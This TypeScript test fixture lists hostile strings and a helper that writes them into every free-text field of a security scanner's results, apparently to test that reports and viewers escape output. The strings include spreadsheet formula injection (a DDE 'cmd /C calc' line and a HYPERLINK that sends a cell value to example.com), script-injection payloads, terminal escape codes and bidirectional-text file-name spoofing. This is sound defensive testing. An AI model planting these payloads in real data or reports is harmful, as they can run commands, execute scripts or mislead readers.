/** What names, tags and messages of others may hold, to fool whoever reads a report or the program that shows it. */
import type { ScanResult } from '../../lib/result/result.ts';

/** Each begins with what makes it dangerous. */
export const payloads: readonly string[] = [
  '=HYPERLINK("https://example.com/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</script><script>alert(1)</script>',
  '</style><style>*{display:none}</style>',
  '<!-- ]]> --> <![CDATA[ x ]]>',
  '&lt;b&gt; &amp;#x3C;',
  'javascript:alert(1)',
  '\u001B[31mred\u001B]0;title\u0007',
  'a\u009Bb\u0085c',
  'txt.\u202Egpj\u2066x\u2069',
  'zero\u200Bwidth\u2060joiner\uFEFF',
  'nul\u0000 form\u000C unit\u001F',
  'half \uD800 other half \uDC00',
  'no character \uFFFE\uFFFF\u{1FFFE}',
  'line\nfeed\r\nreturn\u2028separator',
  'a|b||c',
  '`code` ```fence```',
  '[link](https://example.com) ![image](https://example.com/x.png) [ref]: x',
  'https://example.com www.example.com someone@example.com @octocat #1 GH-1 :smile: $x$',
  'csv,"quotes""and",\'commas\';semicolons',
  '{0} {name} ${x} %s {{y}}',
  '__proto__',
  '長'.repeat(10_000),
];

/** Ids of items and rules, and what can hold nothing but certain words, numbers or times. */
const fixed = new Set(
  [
    'ruleId decisive supporting edition schemaVersion item rule',
    'status level severity scope reason outcome standing basis source organizationRole',
    'account accounts at collectedAt evaluatedAt byAccount parameters',
  ].flatMap((names) => names.split(' ')),
);

/** Records whose keys are data too. */
const records = new Set(['calls', 'tags']);

/** A result with every string of it replaced that can be; `next` gives what stands there. */
export function hostileResult(result: ScanResult, next: () => string): ScanResult {
  const replaced = (value: unknown, key: string, within: string): unknown => {
    if (typeof value === 'string') return isFixed(key, within) ? value : next();
    if (Array.isArray(value)) return value.map((one) => replaced(one, key, within));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, inner]) => [
        records.has(key) && within !== 'evidence' ? `${next()} ${name}` : name,
        fixed.has(name) && typeof inner !== 'object' ? inner : replaced(inner, name, key),
      ]),
    );
  };
  const { scope, ...rest } = result;
  const accounts = scope.accounts.map((one) => replaced({ ...one, id: undefined }, '', '') as typeof one);
  return {
    ...(replaced(rest, '', '') as Omit<ScanResult, 'scope'>),
    scope: {
      ...scope,
      accounts: accounts.map((one, index) => ({ ...one, id: scope.accounts[index]!.id })),
      regions: replaced(scope.regions, 'regions', '') as ScanResult['scope']['regions'],
    },
  };
}

function isFixed(key: string, within: string): boolean {
  if (key === 'type') return within === 'reasons';
  return fixed.has(key) || (key === 'id' && (within === 'items' || within === 'rules'));
}
